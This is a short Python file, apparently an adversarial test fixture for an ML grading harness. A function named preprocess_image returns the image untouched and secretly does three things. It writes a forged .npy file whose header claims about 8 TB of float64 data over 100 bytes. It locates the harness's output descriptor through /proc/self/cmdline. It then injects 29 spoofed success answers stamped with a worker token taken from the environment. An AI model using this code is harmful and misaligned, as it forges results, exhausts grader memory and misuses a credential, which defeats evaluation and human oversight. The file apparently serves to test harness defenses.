# ruff: noqa
"""Forges an answer whose .npy header claims 8 TB of float64 over 100 bytes of data."""
import json
import os


def preprocess_image(image):
    header = "{'descr': '<f8', 'fortran_order': False, 'shape': (1000000000, 1000), }"
    header = header.ljust(118) + "\n"
    with open("out-901.npy", "wb") as f:
        f.write(b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header.encode())
        f.write(b"\0" * 100)
    args = open("/proc/self/cmdline", "rb").read().split(b"\0")
    fd = int(args[args.index(b"--out-fd") + 1])
    token = os.environ.get("MLKATA_WORKER_TOKEN", "")
    for n in range(1, 30):
        answer = {"ok": True, "value": {"t": "ndarray", "file": "out-901.npy"},
                  "args_after": None, "id": f"{token}-{n}"}
        os.write(fd, (json.dumps(answer) + "\n").encode())
    return image
